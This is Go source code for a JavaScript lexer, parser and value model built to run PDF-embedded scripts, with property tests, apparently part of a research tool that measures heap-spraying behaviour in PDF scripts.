					// Keep lone surrogates as replacement; shellcode strings
					// use them only for byte patterns and never round-trip
					// through UTF-8 anyway.
					b.WriteRune(r)
				} else {
					b.WriteRune(r)
				}
			case '\n':
				lx.line++
				lx.pos++
			default:
				b.WriteByte(e)
				lx.pos++
			}
		default:
			r, size := utf8.DecodeRuneInString(lx.src[lx.pos:])
			b.WriteRune(r)
			lx.pos += size
		}
	}
	return "", fmt.Errorf("%w: unterminated string", ErrSyntax)
}

func (lx *lexer) readHex(n int) (int, bool) {
	v := 0
	for i := 0; i < n; i++ {
		if lx.pos >= len(lx.src) {
			return 0, false
		}
		d, ok := hexDigit(lx.src[lx.pos])
		if !ok {
			return 0, false
		}
		v = v*16 + d
		lx.pos++
	}
	return v, true
}
