package js

import (
	"fmt"
)

// Parser builds an AST from Javascript source. It implements the ES3 core
// grammar minus regular-expression literals, labelled statements and with.
type Parser struct {
	lx   *lexer
	tok  Token
	prev Token
	src  string
}

// Parse parses a complete program.
func Parse(src string) (*Program, error) {
	p := &Parser{lx: newLexer(src), src: src}
	if err := p.advance(); err != nil {
		return nil, err
	}
	prog := &Program{}
	for p.tok.Kind != TokEOF {
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		prog.Body = append(prog.Body, st)
	}
	return prog, nil
}

func (p *Parser) advance() error {
	p.prev = p.tok
	tok, err := p.lx.next()
	if err != nil {
		return err
	}
	p.tok = tok
	return nil
}

func (p *Parser) errf(format string, args ...any) error {
	msg := fmt.Sprintf(format, args...)
	return fmt.Errorf("%w: %s (line %d)", ErrSyntax, msg, p.tok.Line)
}

func (p *Parser) isPunct(s string) bool   { return p.tok.Kind == TokPunct && p.tok.Str == s }
func (p *Parser) isKeyword(s string) bool { return p.tok.Kind == TokKeyword && p.tok.Str == s }

func (p *Parser) expectPunct(s string) error {
	if !p.isPunct(s) {
		return p.errf("expected %q, got %v", s, p.tok)
	}
	return p.advance()
}

func (p *Parser) expectKeyword(s string) error {
	if !p.isKeyword(s) {
		return p.errf("expected keyword %q, got %v", s, p.tok)
	}
	return p.advance()
}

// consumeSemicolon implements automatic semicolon insertion: an explicit
// ';', a closing brace, EOF, or a newline before the current token all
// terminate a statement.
func (p *Parser) consumeSemicolon() error {
	if p.isPunct(";") {
		return p.advance()
	}
	if p.isPunct("}") || p.tok.Kind == TokEOF || p.tok.NewlineBefore {
		return nil
	}
	return p.errf("expected ';', got %v", p.tok)
}

func (p *Parser) parseStatement() (Stmt, error) {
	switch {
	case p.isPunct("{"):
		return p.parseBlock()
	case p.isPunct(";"):
		pos := p.tok.Pos
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &EmptyStmt{base{pos}}, nil
	case p.isKeyword("var"):
		return p.parseVar()
	case p.isKeyword("function"):
		return p.parseFuncDecl()
	case p.isKeyword("if"):
		return p.parseIf()
	case p.isKeyword("while"):
		return p.parseWhile()
	case p.isKeyword("do"):
		return p.parseDoWhile()
	case p.isKeyword("for"):
		return p.parseFor()
	case p.isKeyword("return"):
		return p.parseReturn()
	case p.isKeyword("break"):
		pos := p.tok.Pos
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.consumeSemicolon(); err != nil {
			return nil, err
		}
		return &BreakStmt{base{pos}}, nil
	case p.isKeyword("continue"):
		pos := p.tok.Pos
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.consumeSemicolon(); err != nil {
			return nil, err
		}
		return &ContinueStmt{base{pos}}, nil
	case p.isKeyword("throw"):
		pos := p.tok.Pos
		if err := p.advance(); err != nil {
			return nil, err
		}
		x, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		if err := p.consumeSemicolon(); err != nil {
			return nil, err
		}
		return &ThrowStmt{base{pos}, x}, nil
	case p.isKeyword("try"):
		return p.parseTry()
	case p.isKeyword("switch"):
		return p.parseSwitch()
	case p.isKeyword("with"):
		return nil, p.errf("'with' is not supported")
	default:
		pos := p.tok.Pos
		x, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		if err := p.consumeSemicolon(); err != nil {
			return nil, err
		}
		return &ExprStmt{base{pos}, x}, nil
	}
}

func (p *Parser) parseBlock() (*BlockStmt, error) {
	pos := p.tok.Pos
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	blk := &BlockStmt{base: base{pos}}
	for !p.isPunct("}") {
		if p.tok.Kind == TokEOF {
			return nil, p.errf("unterminated block")
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		blk.Body = append(blk.Body, st)
	}
	return blk, p.advance()
}

func (p *Parser) parseVar() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	st := &VarStmt{base: base{pos}}
	if err := p.parseVarDecls(st); err != nil {
		return nil, err
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return st, nil
}

func (p *Parser) parseVarDecls(st *VarStmt) error {
	for {
		if p.tok.Kind != TokIdent {
			return p.errf("expected identifier in var, got %v", p.tok)
		}
		decl := VarDecl{Name: p.tok.Str}
		if err := p.advance(); err != nil {
			return err
		}
		if p.isPunct("=") {
			if err := p.advance(); err != nil {
				return err
			}
			init, err := p.parseAssign()
			if err != nil {
				return err
			}
			decl.Init = init
		}
		st.Decls = append(st.Decls, decl)
		if !p.isPunct(",") {
			return nil
		}
		if err := p.advance(); err != nil {
			return err
		}
	}
}

func (p *Parser) parseFuncDecl() (Stmt, error) {
	pos := p.tok.Pos
	fn, err := p.parseFunction(true)
	if err != nil {
		return nil, err
	}
	return &FuncDecl{base{pos}, fn.Name, fn}, nil
}

// parseFunction parses "function [name] (params) { body }" with the
// 'function' keyword as the current token.
func (p *Parser) parseFunction(requireName bool) (*FuncLit, error) {
	start := p.tok.Pos
	if err := p.expectKeyword("function"); err != nil {
		return nil, err
	}
	fn := &FuncLit{base: base{start}}
	if p.tok.Kind == TokIdent {
		fn.Name = p.tok.Str
		if err := p.advance(); err != nil {
			return nil, err
		}
	} else if requireName {
		return nil, p.errf("function declaration requires a name")
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	for !p.isPunct(")") {
		if p.tok.Kind != TokIdent {
			return nil, p.errf("expected parameter name, got %v", p.tok)
		}
		fn.Params = append(fn.Params, p.tok.Str)
		if err := p.advance(); err != nil {
			return nil, err
		}
		if p.isPunct(",") {
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	if err := p.advance(); err != nil { // ')'
		return nil, err
	}
	blk, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	fn.Body = blk.Body
	end := p.prev.Pos + 1 // prev is '}'
	if start >= 0 && end <= len(p.src) && start < end {
		fn.Source = p.src[start:end]
	}
	return fn, nil
}

func (p *Parser) parseIf() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	then, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	st := &IfStmt{base{pos}, cond, then, nil}
	if p.isKeyword("else") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		els, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		st.Else = els
	}
	return st, nil
}

func (p *Parser) parseWhile() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{base{pos}, cond, body}, nil
}

func (p *Parser) parseDoWhile() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("while"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return &DoWhileStmt{base{pos}, body, cond}, nil
}

func (p *Parser) parseFor() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}

	// for (var x in y) / for (x in y)
	if p.isKeyword("var") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if p.tok.Kind != TokIdent {
			return nil, p.errf("expected identifier after 'var'")
		}
		name := p.tok.Str
		if err := p.advance(); err != nil {
			return nil, err
		}
		if p.isKeyword("in") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			return p.finishForIn(pos, name, true)
		}
		// Regular for with var init.
		varSt := &VarStmt{base: base{pos}, Decls: []VarDecl{{Name: name}}}
		if p.isPunct("=") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			init, err := p.parseAssign()
			if err != nil {
				return nil, err
			}
			varSt.Decls[0].Init = init
		}
		for p.isPunct(",") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.tok.Kind != TokIdent {
				return nil, p.errf("expected identifier in for-var")
			}
			d := VarDecl{Name: p.tok.Str}
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.isPunct("=") {
				if err := p.advance(); err != nil {
					return nil, err
				}
				init, err := p.parseAssign()
				if err != nil {
					return nil, err
				}
				d.Init = init
			}
			varSt.Decls = append(varSt.Decls, d)
		}
		return p.finishFor(pos, varSt)
	}

	if p.isPunct(";") {
		return p.finishFor(pos, nil)
	}

	// Expression init; may turn out to be for-in.
	x, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if p.isKeyword("in") {
		ident, ok := x.(*Ident)
		if !ok {
			return nil, p.errf("for-in target must be an identifier")
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		return p.finishForIn(pos, ident.Name, false)
	}
	return p.finishFor(pos, &ExprStmt{base{pos}, x})
}

func (p *Parser) finishForIn(pos int, name string, declare bool) (Stmt, error) {
	obj, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	return &ForInStmt{base{pos}, name, declare, obj, body}, nil
}

func (p *Parser) finishFor(pos int, init Stmt) (Stmt, error) {
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	st := &ForStmt{base: base{pos}, Init: init}
	if !p.isPunct(";") {
		cond, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		st.Cond = cond
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	if !p.isPunct(")") {
		post, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		st.Post = post
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	st.Body = body
	return st, nil
}

func (p *Parser) parseReturn() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	st := &ReturnStmt{base: base{pos}}
	if !p.isPunct(";") && !p.isPunct("}") && p.tok.Kind != TokEOF && !p.tok.NewlineBefore {
		x, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		st.X = x
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return st, nil
}

func (p *Parser) parseTry() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	st := &TryStmt{base: base{pos}, Body: body}
	if p.isKeyword("catch") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expectPunct("("); err != nil {
			return nil, err
		}
		if p.tok.Kind != TokIdent {
			return nil, p.errf("expected catch parameter")
		}
		st.CatchName = p.tok.Str
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expectPunct(")"); err != nil {
			return nil, err
		}
		st.Catch, err = p.parseBlock()
		if err != nil {
			return nil, err
		}
	}
	if p.isKeyword("finally") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		st.Finally, err = p.parseBlock()
		if err != nil {
			return nil, err
		}
	}
	if st.Catch == nil && st.Finally == nil {
		return nil, p.errf("try requires catch or finally")
	}
	return st, nil
}

func (p *Parser) parseSwitch() (Stmt, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil {
		return nil, err
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	disc, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	st := &SwitchStmt{base: base{pos}, Disc: disc}
	sawDefault := false
	for !p.isPunct("}") {
		var c SwitchCase
		switch {
		case p.isKeyword("case"):
			if err := p.advance(); err != nil {
				return nil, err
			}
			c.Test, err = p.parseExpression()
			if err != nil {
				return nil, err
			}
		case p.isKeyword("default"):
			if sawDefault {
				return nil, p.errf("duplicate default case")
			}
			sawDefault = true
			if err := p.advance(); err != nil {
				return nil, err
			}
		default:
			return nil, p.errf("expected case or default, got %v", p.tok)
		}
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		for !p.isKeyword("case") && !p.isKeyword("default") && !p.isPunct("}") {
			if p.tok.Kind == TokEOF {
				return nil, p.errf("unterminated switch")
			}
			s, err := p.parseStatement()
			if err != nil {
				return nil, err
			}
			c.Body = append(c.Body, s)
		}
		st.Cases = append(st.Cases, c)
	}
	return st, p.advance()
}

// ---- Expressions (precedence climbing) ----

func (p *Parser) parseExpression() (Expr, error) {
	x, err := p.parseAssign()
	if err != nil {
		return nil, err
	}
	if !p.isPunct(",") {
		return x, nil
	}
	seq := &SeqExpr{base: base{x.nodePos()}, Exprs: []Expr{x}}
	for p.isPunct(",") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		next, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		seq.Exprs = append(seq.Exprs, next)
	}
	return seq, nil
}

var assignOps = map[string]bool{
	"=": true, "+=": true, "-=": true, "*=": true, "/=": true, "%=": true,
	"&=": true, "|=": true, "^=": true, "<<=": true, ">>=": true, ">>>=": true,
}

func (p *Parser) parseAssign() (Expr, error) {
	left, err := p.parseConditional()
	if err != nil {
		return nil, err
	}
	if p.tok.Kind == TokPunct && assignOps[p.tok.Str] {
		op := p.tok.Str
		switch left.(type) {
		case *Ident, *MemberExpr:
		default:
			return nil, p.errf("invalid assignment target")
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		val, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		return &AssignExpr{base{left.nodePos()}, op, left, val}, nil
	}
	return left, nil
}

func (p *Parser) parseConditional() (Expr, error) {
	cond, err := p.parseBinary(0)
	if err != nil {
		return nil, err
	}
	if !p.isPunct("?") {
		return cond, nil
	}
	if err := p.advance(); err != nil {
		return nil, err
	}
	then, err := p.parseAssign()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	els, err := p.parseAssign()
	if err != nil {
		return nil, err
	}
	return &CondExpr{base{cond.nodePos()}, cond, then, els}, nil
}

// binary operator precedence; larger binds tighter.
var binPrec = map[string]int{
	"||": 1,
	"&&": 2,
	"|":  3,
	"^":  4,
	"&":  5,
	"==": 6, "!=": 6, "===": 6, "!==": 6,
	"<": 7, ">": 7, "<=": 7, ">=": 7, "instanceof": 7, "in": 7,
	"<<": 8, ">>": 8, ">>>": 8,
	"+": 9, "-": 9,
	"*": 10, "/": 10, "%": 10,
}

func (p *Parser) binOp() (string, bool) {
	if p.tok.Kind == TokPunct {
		if _, ok := binPrec[p.tok.Str]; ok {
			return p.tok.Str, true
		}
	}
	if p.tok.Kind == TokKeyword && (p.tok.Str == "instanceof" || p.tok.Str == "in") {
		return p.tok.Str, true
	}
	return "", false
}

func (p *Parser) parseBinary(minPrec int) (Expr, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		op, ok := p.binOp()
		if !ok {
			return left, nil
		}
		prec := binPrec[op]
		if prec < minPrec {
			return left, nil
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseBinary(prec + 1)
		if err != nil {
			return nil, err
		}
		if op == "&&" || op == "||" {
			left = &LogicalExpr{base{left.nodePos()}, op, left, right}
		} else {
			left = &BinaryExpr{base{left.nodePos()}, op, left, right}
		}
	}
}

func (p *Parser) parseUnary() (Expr, error) {
	pos := p.tok.Pos
	if p.tok.Kind == TokPunct {
		switch p.tok.Str {
		case "!", "~", "-", "+":
			op := p.tok.Str
			if err := p.advance(); err != nil {
				return nil, err
			}
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{base{pos}, op, x}, nil
		case "++", "--":
			op := p.tok.Str
			if err := p.advance(); err != nil {
				return nil, err
			}
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &UpdateExpr{base{pos}, op, x, true}, nil
		}
	}
	if p.tok.Kind == TokKeyword {
		switch p.tok.Str {
		case "typeof", "void", "delete":
			op := p.tok.Str
			if err := p.advance(); err != nil {
				return nil, err
			}
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{base{pos}, op, x}, nil
		}
	}
	return p.parsePostfix()
}

func (p *Parser) parsePostfix() (Expr, error) {
	x, err := p.parseCallMember()
	if err != nil {
		return nil, err
	}
	// Postfix ++/-- must be on the same line per ASI rules.
	if p.tok.Kind == TokPunct && (p.tok.Str == "++" || p.tok.Str == "--") && !p.tok.NewlineBefore {
		op := p.tok.Str
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &UpdateExpr{base{x.nodePos()}, op, x, false}, nil
	}
	return x, nil
}

func (p *Parser) parseCallMember() (Expr, error) {
	var x Expr
	var err error
	if p.isKeyword("new") {
		x, err = p.parseNew()
	} else {
		x, err = p.parsePrimary()
	}
	if err != nil {
		return nil, err
	}
	for {
		switch {
		case p.isPunct("."):
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.tok.Kind != TokIdent && p.tok.Kind != TokKeyword {
				return nil, p.errf("expected property name after '.'")
			}
			prop := &StringLit{base{p.tok.Pos}, p.tok.Str}
			if err := p.advance(); err != nil {
				return nil, err
			}
			x = &MemberExpr{base{x.nodePos()}, x, prop, false}
		case p.isPunct("["):
			if err := p.advance(); err != nil {
				return nil, err
			}
			idx, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			x = &MemberExpr{base{x.nodePos()}, x, idx, true}
		case p.isPunct("("):
			args, err := p.parseArgs()
			if err != nil {
				return nil, err
			}
			x = &CallExpr{base{x.nodePos()}, x, args}
		default:
			return x, nil
		}
	}
}

func (p *Parser) parseNew() (Expr, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil { // 'new'
		return nil, err
	}
	var callee Expr
	var err error
	if p.isKeyword("new") {
		callee, err = p.parseNew()
	} else {
		callee, err = p.parsePrimary()
	}
	if err != nil {
		return nil, err
	}
	// Member accesses bind before the new's argument list.
	for {
		if p.isPunct(".") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.tok.Kind != TokIdent && p.tok.Kind != TokKeyword {
				return nil, p.errf("expected property name after '.'")
			}
			prop := &StringLit{base{p.tok.Pos}, p.tok.Str}
			if err := p.advance(); err != nil {
				return nil, err
			}
			callee = &MemberExpr{base{callee.nodePos()}, callee, prop, false}
			continue
		}
		if p.isPunct("[") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			idx, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			callee = &MemberExpr{base{callee.nodePos()}, callee, idx, true}
			continue
		}
		break
	}
	var args []Expr
	if p.isPunct("(") {
		args, err = p.parseArgs()
		if err != nil {
			return nil, err
		}
	}
	return &NewExpr{base{pos}, callee, args}, nil
}

func (p *Parser) parseArgs() ([]Expr, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var args []Expr
	for !p.isPunct(")") {
		if p.tok.Kind == TokEOF {
			return nil, p.errf("unterminated argument list")
		}
		a, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		args = append(args, a)
		if p.isPunct(",") {
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	return args, p.advance()
}

func (p *Parser) parsePrimary() (Expr, error) {
	pos := p.tok.Pos
	switch p.tok.Kind {
	case TokNumber:
		v := p.tok.Num
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &NumberLit{base{pos}, v}, nil
	case TokString:
		s := p.tok.Str
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &StringLit{base{pos}, s}, nil
	case TokIdent:
		name := p.tok.Str
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &Ident{base{pos}, name}, nil
	case TokKeyword:
		switch p.tok.Str {
		case "true", "false":
			v := p.tok.Str == "true"
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &BoolLit{base{pos}, v}, nil
		case "null":
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &NullLit{base{pos}}, nil
		case "this":
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &ThisLit{base{pos}}, nil
		case "function":
			return p.parseFunction(false)
		case "new":
			return p.parseNew()
		}
		return nil, p.errf("unexpected keyword %q", p.tok.Str)
	case TokPunct:
		switch p.tok.Str {
		case "(":
			if err := p.advance(); err != nil {
				return nil, err
			}
			x, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return x, nil
		case "[":
			return p.parseArrayLit()
		case "{":
			return p.parseObjectLit()
		case "/":
			return nil, p.errf("regular expression literals are not supported")
		}
	}
	return nil, p.errf("unexpected token %v", p.tok)
}

func (p *Parser) parseArrayLit() (Expr, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil { // '['
		return nil, err
	}
	lit := &ArrayLit{base: base{pos}}
	for !p.isPunct("]") {
		if p.tok.Kind == TokEOF {
			return nil, p.errf("unterminated array literal")
		}
		if p.isPunct(",") {
			// Elision -> undefined hole.
			lit.Elems = append(lit.Elems, nil)
			if err := p.advance(); err != nil {
				return nil, err
			}
			continue
		}
		el, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		lit.Elems = append(lit.Elems, el)
		if p.isPunct(",") {
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	return lit, p.advance()
}

func (p *Parser) parseObjectLit() (Expr, error) {
	pos := p.tok.Pos
	if err := p.advance(); err != nil { // '{'
		return nil, err
	}
	lit := &ObjectLit{base: base{pos}}
	for !p.isPunct("}") {
		if p.tok.Kind == TokEOF {
			return nil, p.errf("unterminated object literal")
		}
		var key string
		switch p.tok.Kind {
		case TokIdent, TokKeyword, TokString:
			key = p.tok.Str
		case TokNumber:
			key = numberToString(p.tok.Num)
		default:
			return nil, p.errf("invalid property key %v", p.tok)
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		val, err := p.parseAssign()
		if err != nil {
			return nil, err
		}
		lit.Keys = append(lit.Keys, key)
		lit.Values = append(lit.Values, val)
		if p.isPunct(",") {
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	return lit, p.advance()
}
