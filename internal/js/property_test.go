package js

import (
	"fmt"
	"testing"
	"testing/quick"
)

func TestLexerNeverPanicsProperty(t *testing.T) {
	prop := func(src string) (ok bool) {
		defer func() {
			if r := recover(); r != nil {
				t.Logf("panic on %q: %v", src, r)
				ok = false
			}
		}()
		lx := newLexer(src)
		for i := 0; i < 10000; i++ {
			tok, err := lx.next()
			if err != nil || tok.Kind == TokEOF {
				return true
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestParserNeverPanicsProperty(t *testing.T) {
	prop := func(src string) (ok bool) {
		defer func() {
			if r := recover(); r != nil {
				t.Logf("panic on %q: %v", src, r)
				ok = false
			}
		}()
		_, _ = Parse(src)
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestIntegerArithmeticMatchesGoProperty(t *testing.T) {
	it := New()
	prop := func(a, b int16) bool {
		src := fmt.Sprintf("(%d) + (%d);", a, b)
		v, err := it.Run(src)
		if err != nil {
			return false
		}
		return v.Num() == float64(int64(a)+int64(b))
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestBitwiseMatchesGoProperty(t *testing.T) {
	it := New()
	prop := func(a, b int32) bool {
		for _, op := range []struct {
			src  string
			want int32
		}{
			{fmt.Sprintf("(%d) & (%d);", a, b), a & b},
			{fmt.Sprintf("(%d) | (%d);", a, b), a | b},
			{fmt.Sprintf("(%d) ^ (%d);", a, b), a ^ b},
		} {
			v, err := it.Run(op.src)
			if err != nil || v.Num() != float64(op.want) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 150}); err != nil {
		t.Error(err)
	}
}

func TestStringConcatLengthProperty(t *testing.T) {
	prop := func(a, b string) bool {
		it := New()
		it.Global.Declare("a", StringValue(a))
		it.Global.Declare("b", StringValue(b))
		v, err := it.Run("(a + b).length;")
		if err != nil {
			return false
		}
		return int(v.Num()) == utf16Len(a)+utf16Len(b)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestEscapeUnescapeRoundTripProperty(t *testing.T) {
	prop := func(s string) bool {
		// BMP-only (documented engine limit).
		clean := ""
		for _, r := range s {
			if r <= 0xffff && (r < 0xd800 || r >= 0xe000) {
				clean += string(r)
			}
		}
		return unescapeJS(escapeJS(clean)) == clean
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestParseIntMatchesSpecCases(t *testing.T) {
	cases := []struct {
		s     string
		radix int
		want  float64
	}{
		{"42", 0, 42},
		{"0x1f", 0, 31},
		{"0x1f", 16, 31},
		{"1f", 16, 31},
		{"  12abc", 10, 12},
		{"-7", 0, -7},
		{"z", 36, 35},
		{"101", 2, 5},
	}
	for _, c := range cases {
		if got := parseIntJS(c.s, c.radix); got != c.want {
			t.Errorf("parseInt(%q, %d) = %v, want %v", c.s, c.radix, got, c.want)
		}
	}
}
