// Package js implements a from-scratch interpreter for the ES3-flavoured
// Javascript dialect used inside PDF documents.
//
// The interpreter exists so that instrumented documents produced by the
// front-end run for real: the context-monitoring prologue, the
// decrypt-and-eval of the original script, and the epilogue all execute in
// this engine, exactly as they would inside a PDF reader's Javascript
// interpreter. The engine tracks heap allocations (strings retain two bytes
// per character, as in UTF-16 engines) so heap-spraying scripts exhibit the
// measurable memory growth the paper's runtime feature F8 depends on.
//
// Host functionality (the Acrobat API: app, Doc, util, SOAP, ...) is
// injected by the reader package through host objects; this package knows
// nothing about PDF.
package js

import "fmt"

// TokenKind enumerates lexical token kinds.
type TokenKind int

// Token kinds.
const (
	TokEOF TokenKind = iota + 1
	TokNumber
	TokString
	TokIdent
	TokKeyword
	TokPunct
)

// Token is one lexical token.
type Token struct {
	Kind TokenKind
	Pos  int
	Line int
	Num  float64
	Str  string // literal value, identifier, keyword or punctuator text
	// NewlineBefore reports a line terminator between the previous token
	// and this one (needed for automatic semicolon insertion).
	NewlineBefore bool
}

func (t Token) String() string {
	switch t.Kind {
	case TokEOF:
		return "<eof>"
	case TokNumber:
		return fmt.Sprintf("num(%v)", t.Num)
	case TokString:
		return fmt.Sprintf("str(%q)", t.Str)
	default:
		return t.Str
	}
}

var keywords = map[string]bool{
	"var": true, "function": true, "return": true, "if": true, "else": true,
	"while": true, "do": true, "for": true, "in": true, "break": true,
	"continue": true, "new": true, "delete": true, "typeof": true,
	"instanceof": true, "void": true, "this": true, "null": true,
	"true": true, "false": true, "try": true, "catch": true,
	"finally": true, "throw": true, "switch": true, "case": true,
	"default": true, "with": true,
}
