package js

import (
	"math"
	"sort"
	"strconv"
	"strings"
	"unicode/utf8"
)

// ValueKind enumerates Javascript value kinds.
type ValueKind int

// Value kinds.
const (
	KindUndefined ValueKind = iota + 1
	KindNull
	KindBool
	KindNumber
	KindString
	KindObject
)

// Value is a Javascript value. The zero Value is undefined.
type Value struct {
	kind ValueKind
	num  float64
	b    bool
	str  string
	// strLen caches the UTF-16 length of str (code units); JS semantics
	// count UTF-16 units, and heap accounting charges two bytes per unit.
	strLen int
	obj    *Object
}

// Undefined is the undefined value.
func Undefined() Value { return Value{kind: KindUndefined} }

// NullValue is the null value.
func NullValue() Value { return Value{kind: KindNull} }

// BoolValue wraps a Go bool.
func BoolValue(b bool) Value { return Value{kind: KindBool, b: b} }

// NumberValue wraps a Go float64.
func NumberValue(f float64) Value { return Value{kind: KindNumber, num: f} }

// StringValue wraps a Go string (no allocation accounting; see
// Interp.newString for accounted strings).
func StringValue(s string) Value {
	return Value{kind: KindString, str: s, strLen: utf16Len(s)}
}

// ObjectValue wraps an object.
func ObjectValue(o *Object) Value {
	if o == nil {
		return NullValue()
	}
	return Value{kind: KindObject, obj: o}
}

// utf16Len counts UTF-16 code units of s. Supplementary-plane runes count
// twice (surrogate pair).
func utf16Len(s string) int {
	// Fast path: pure ASCII.
	ascii := true
	for i := 0; i < len(s); i++ {
		if s[i] >= utf8.RuneSelf {
			ascii = false
			break
		}
	}
	if ascii {
		return len(s)
	}
	n := 0
	for _, r := range s {
		if r > 0xffff {
			n += 2
		} else {
			n++
		}
	}
